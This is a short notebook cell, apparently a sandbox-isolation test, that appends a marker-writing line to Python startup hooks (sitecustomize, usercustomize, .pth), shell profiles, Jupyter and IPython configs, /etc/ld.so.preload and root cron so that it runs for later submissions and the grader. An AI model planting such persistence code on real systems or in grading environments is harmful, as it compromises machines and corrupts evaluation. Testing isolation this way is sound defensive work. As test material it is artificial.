# %% [markdown] stock="it would change this machine's Python"
# Writes sitecustomize, .pth files, IPython and shell startup files, which would run for the next submission and the grader.

# %% first
import os
import sys

home = os.path.expanduser("~")
code = "open('/tmp/pwned-__TOKEN__', 'w').write('pwned-__TOKEN__')\n"
targets = [os.path.join(folder, name) for folder in sys.path if folder
           for name in ("sitecustomize.py", "usercustomize.py", "pwned-__TOKEN__.pth")]
targets += [os.path.join(home, name) for name in (".ipython/profile_default/startup/pwned.py", ".bashrc", ".profile",
                                                  ".jupyter/jupyter_notebook_config.py", ".config/matplotlib/pwned")]
targets += ["/etc/profile.d/pwned.sh", "/etc/ld.so.preload", "/etc/cron.d/pwned", "/var/spool/cron/root"]
for path in targets:
    if path.startswith("/tmp") or not path.startswith("/"):
        continue
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as file:
            file.write(code)
        print("GOT: wrote", path)
    except OSError:
        continue
